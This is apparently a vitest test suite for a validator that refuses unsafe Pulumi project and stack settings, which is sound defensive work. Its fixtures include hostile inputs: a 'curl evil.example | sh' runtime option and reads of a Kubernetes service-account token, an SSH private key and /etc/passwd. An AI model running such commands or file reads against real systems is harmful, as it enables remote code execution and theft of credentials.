import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ProjectErrors, projectNotAllowed, projectProblems, type PolicyProjectFiles } from '../../shared/provisioning/project-policy';

const YAML_ONLY = { runtimes: ['yaml'] };
const BASE = 'name: demo\nruntime: yaml\n';

/** A project whose Pulumi.yaml is `BASE` plus `extra`, with `stacks`. */
const project = (extra = '', stacks: Record<string, string> = {}, files?: Record<string, string>): PolicyProjectFiles => ({
  project: `${BASE}${extra}`,
  stacks,
  ...(files ? { files } : {}),
});

/** The keys of the problems, as `file:key`. */
const keysOf = (files: PolicyProjectFiles, policy = YAML_ONLY) => projectProblems(files, policy).map((p) => `${p.file}:${p.key}`);

describe('projectProblems', () => {
  it('when the example project of this repository is checked, then it has no problem', () => {
    // Arrange: the folder as loadDesiredState would return it.
    const dir = join(__dirname, '../../infra/examples/desired-state/app');
    const files = Object.fromEntries(readdirSync(dir).map((name) => [name, readFileSync(join(dir, name), 'utf8')]));
    const stacks = Object.fromEntries(
      Object.entries(files)
        .filter(([name]) => /^Pulumi\.[^.]+\.yaml$/.test(name))
        .map(([name, text]) => [name.split('.')[1]!, text]),
    );

    // Act
    const problems = projectProblems({ project: files['Pulumi.yaml']!, stacks, files }, YAML_ONLY);

    // Assert
    expect(Object.keys(stacks).sort()).toEqual(['development', 'production']);
    expect(problems).toEqual([]);
  });

  it('when the project sets only harmless keys, then it has no problem', () => {
    // Arrange
    const files = project(
      [
        'description: d',
        'author: a',
        'website: https://example.com',
        'license: MIT',
        'main: src/',
        'stackConfigDir: .',
        'options:',
        '  refresh: always',
        'template:',
        '  description: t',
        '  config:',
        '    demo:size: { default: small }',
        'pulumi:',
        '  requiredVersion: ">=3.0.0"',
        'config:',
        '  size: small',
        'configuration:',
        '  replicas: { default: 1 }',
        'variables:',
        '  readme:',
        '    fn::readFile: ./docs/README.md',
        'resources:',
        '  site:',
        '    type: local:storage:Bucket',
        '    properties:',
        '      index:',
        '        Fn::FileAsset: site/index.html',
        '    options:',
        '      version: 1.2.3',
        'outputs:',
        '  url: https://${site.name}',
        '',
      ].join('\n'),
      { dev: 'config:\n  demo:size: small\n  demo:password:\n    secretRef: broker://x\n', empty: '' },
    );

    // Act / Assert
    expect(projectProblems(files, YAML_ONLY)).toEqual([]);
  });

  it.each([
    ['backend', 'backend:\n  url: s3://someone-elses-bucket\n', 'Pulumi.yaml:backend'],
    ['plugins', 'plugins:\n  providers:\n    - name: aws\n      path: ../../bin\n', 'Pulumi.yaml:plugins'],
    ['packages', 'packages:\n  mypkg: https://github.com/evil/pkg@v1\n', 'Pulumi.yaml:packages'],
  ])('when the project sets %s, then it is refused naming the key', (_case, extra, key) => {
    // Act
    const keys = keysOf(project(extra));

    // Assert
    expect(keys).toEqual([key]);
  });

  it('when the runtime sets options, then runtime.options is refused', () => {
    // Act
    const keys = keysOf({ project: 'name: demo\nruntime:\n  name: yaml\n  options:\n    compiler: curl evil.example | sh\n', stacks: {} });

    // Assert
    expect(keys).toEqual(['Pulumi.yaml:runtime.options']);
  });

  it('when the runtime is an object with a name and empty options, then it is allowed', () => {
    // Act / Assert
    expect(keysOf({ project: 'name: demo\nruntime:\n  name: yaml\n  options: {}\n', stacks: {} })).toEqual([]);
  });

  it.each([
    ['a runtime the installation does not list', 'name: demo\nruntime: nodejs\n', 'Pulumi.yaml:runtime'],
    ['a listed runtime named in the object form', 'name: demo\nruntime:\n  name: python\n', 'Pulumi.yaml:runtime.name'],
    ['no runtime', 'name: demo\n', 'Pulumi.yaml:runtime'],
  ])('when the project names %s, then runtime is refused', (_case, text, key) => {
    // Act / Assert
    expect(keysOf({ project: text, stacks: {} })).toEqual([key]);
  });

  it('when the installation lists nodejs, then a nodejs project is allowed', () => {
    // Act / Assert
    expect(keysOf({ project: 'name: demo\nruntime: nodejs\n', stacks: {} }, { runtimes: ['yaml', 'nodejs'] })).toEqual([]);
  });

  it.each([
    ['an absolute main', 'main: /etc/pulumi/\n'],
    ['a main that climbs out', 'main: ../other-project/\n'],
    ['a main that climbs out through its own folder', 'main: src/../../other/\n'],
    ['a main with a drive letter', 'main: C:/programs/\n'],
    ['a main with backslashes', 'main: ..\\\\other\n'],
  ])('when the project has %s, then main is refused', (_case, extra) => {
    // Act / Assert
    expect(keysOf(project(extra))).toEqual(['Pulumi.yaml:main']);
  });

  it.each([
    ['outside the folder', 'stackConfigDir: ../config\n'],
    ['in a subfolder the host does not check', 'stackConfigDir: config/\n'],
  ])('when stackConfigDir is %s, then it is refused', (_case, extra) => {
    // Act / Assert
    expect(keysOf(project(extra))).toEqual(['Pulumi.yaml:stackConfigDir']);
  });

  it('when config is a string (the deprecated config directory), then config is refused', () => {
    // Act / Assert
    expect(keysOf(project('config: ../elsewhere\n'))).toEqual(['Pulumi.yaml:config']);
  });

  it('when options sets anything but refresh, then that option is refused', () => {
    // Act / Assert
    expect(keysOf(project('options:\n  refresh: always\n  stateUrl: s3://x\n'))).toEqual(['Pulumi.yaml:options.stateUrl']);
  });

  it('when pulumi sets anything but requiredVersion, then that key is refused', () => {
    // Act / Assert
    expect(keysOf(project('pulumi:\n  requiredVersion: ">=3"\n  backend: s3://x\n'))).toEqual(['Pulumi.yaml:pulumi.backend']);
  });

  it.each([
    ['a key Pulumi does not define', 'stateStorage: s3://x\n', 'Pulumi.yaml:stateStorage'],
    ['a key in another case', 'Backend:\n  url: s3://x\n', 'Pulumi.yaml:Backend'],
    ['a YAML merge key', 'base: &b\n  url: s3://x\n<<: *b\n', 'Pulumi.yaml:<<'],
  ])('when the project has %s, then it is refused as unknown', (_case, extra, key) => {
    // Act
    const keys = keysOf(project(extra));

    // Assert
    expect(keys).toContain(key);
  });

  it.each([
    ['secretsprovider', 'secretsprovider: awskms://someone-elses-key\nconfig: {}\n', 'Pulumi.dev.yaml:secretsprovider'],
    ['encryptedkey', 'encryptedkey: AQICAHh...\n', 'Pulumi.dev.yaml:encryptedkey'],
    ['encryptionsalt', 'encryptionsalt: v1:abc\n', 'Pulumi.dev.yaml:encryptionsalt'],
    ['environment (Pulumi ESC)', 'environment:\n  - other-org/secrets\n', 'Pulumi.dev.yaml:environment'],
    ['an encrypted config value', 'config:\n  demo:password:\n    secure: v1:AAAA\n', 'Pulumi.dev.yaml:config.demo:password'],
    ['a key stack files do not have', 'backend: s3://x\n', 'Pulumi.dev.yaml:backend'],
  ])('when a stack file sets %s, then it is refused naming the file and the key', (_case, stack, key) => {
    // Act / Assert
    expect(keysOf(project('', { dev: stack }))).toEqual([key]);
  });

  it.each([
    ['fn::readFile of an absolute path', 'variables:\n  token:\n    fn::readFile: /var/run/secrets/kubernetes.io/serviceaccount/token\n', 'Pulumi.yaml:variables.token.fn::readFile'],
    ['fn::readFile of an expression', 'outputs:\n  key:\n    fn::readFile: ${pulumi.cwd}/../../.ssh/id_rsa\n', 'Pulumi.yaml:outputs.key.fn::readFile'],
    ['Fn::FileArchive climbing out', 'resources:\n  f:\n    type: local:x:Y\n    properties:\n      code:\n        Fn::FileArchive: ../../secrets\n', 'Pulumi.yaml:resources.f.properties.code.Fn::FileArchive'],
    ['fn::remoteAsset', 'variables:\n  page:\n    fn::remoteAsset: file:///etc/passwd\n', 'Pulumi.yaml:variables.page.fn::remoteAsset'],
    ['fn::remoteArchive in a list', 'variables:\n  all:\n    - fn::remoteArchive: https://example.com/a.zip\n', 'Pulumi.yaml:variables.all[0].fn::remoteArchive'],
  ])('when the program uses %s, then it is refused at its path', (_case, extra, key) => {
    // Act / Assert
    expect(keysOf(project(extra))).toEqual([key]);
  });

  it('when main points at a Main.yaml, then that file\'s program is checked too', () => {
    // Arrange
    const files = project('main: src/\n', {}, {
      'Pulumi.yaml': `${BASE}main: src/\n`,
      'src/Main.yaml': 'variables:\n  page:\n    fn::remoteAsset: https://evil.example\nbackend: s3://x\n',
    });

    // Act / Assert
    expect(keysOf(files)).toEqual(['src/Main.yaml:variables.page.fn::remoteAsset', 'src/Main.yaml:backend']);
  });

  it.each([
    ['not YAML', 'name: [demo\n'],
    ['not a mapping', '- name: demo\n'],
  ])('when Pulumi.yaml is %s, then it is refused: what the host cannot read it cannot judge', (_case, text) => {
    // Act / Assert
    expect(keysOf({ project: text, stacks: {} })).toEqual(['Pulumi.yaml:(document)']);
  });
});

describe('projectNotAllowed', () => {
  it('when a project has problems, then PROVISIONING.PROJECT_NOT_ALLOWED names each key and file', () => {
    // Arrange
    const problems = projectProblems(project('backend:\n  url: s3://x\n', { prod: 'secretsprovider: awskms://k\n' }), YAML_ONLY);

    // Act
    const error = projectNotAllowed(problems);

    // Assert
    expect([error.code, error.kind]).toEqual([ProjectErrors.notAllowed, 'forbidden']);
    expect(error.details.keys).toEqual(['backend', 'Pulumi.prod.yaml:secretsprovider']);
    expect(error.message).toContain('backend (Pulumi.yaml) sets where the stack state lives');
    expect(error.message).toContain('secretsprovider (Pulumi.prod.yaml)');
  });
});
